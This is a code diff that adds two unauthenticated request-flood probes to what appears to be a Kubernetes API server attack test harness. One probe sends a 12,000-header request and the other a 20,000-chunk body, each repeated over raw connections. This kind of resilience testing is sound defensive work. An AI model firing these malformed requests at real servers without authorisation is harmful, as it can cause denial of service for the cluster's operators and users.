@@ -10,7 +10,7 @@ from collections import Counter
 from pathlib import Path
 
 import kube
-from attack.target import Outcomes, Target, Wire, outcome, repeat, rest
+from attack.target import Outcomes, Target, Wire, outcome, repeat, rest, sending
 
 CONFIGS = "/api/v1/namespaces/default/configmaps"
 WATCHES = 600
@@ -163,3 +163,29 @@ async def handshakes(target: Target) -> Outcomes:
             wire.reset()
 
     return await repeat(target, 300, attempt)
+
+
+async def tiny_headers(target: Target) -> Outcomes:
+    """Without a token: heads of 60 KB that have 12,000 headers."""
+    head = b"GET / HTTP/1.1\r\nhost: x\r\n" + b"a:b\r\n" * 12_000 + b"\r\n"
+    return await _strangers(target, head)
+
+
+async def tiny_chunks(target: Target) -> Outcomes:
+    """Without a token: bodies of 20,000 chunks of one byte."""
+    head = b"POST /api/v1/namespaces HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n"
+    return await _strangers(target, head + b"1\r\nx\r\n" * 20_000 + b"0\r\n\r\n")
+
+
+async def _strangers(target: Target, request: bytes) -> Outcomes:
+    cluster = kube.Cluster.load(Path(target.user_kubeconfig))
+
+    async def attempt() -> str:
+        wire = await Wire.open(cluster.port, cluster.context)
+        try:
+            async with sending(wire, request):
+                return await wire.status(timeout_s=10)
+        finally:
+            wire.reset()
+
+    return await repeat(target, 16, attempt)
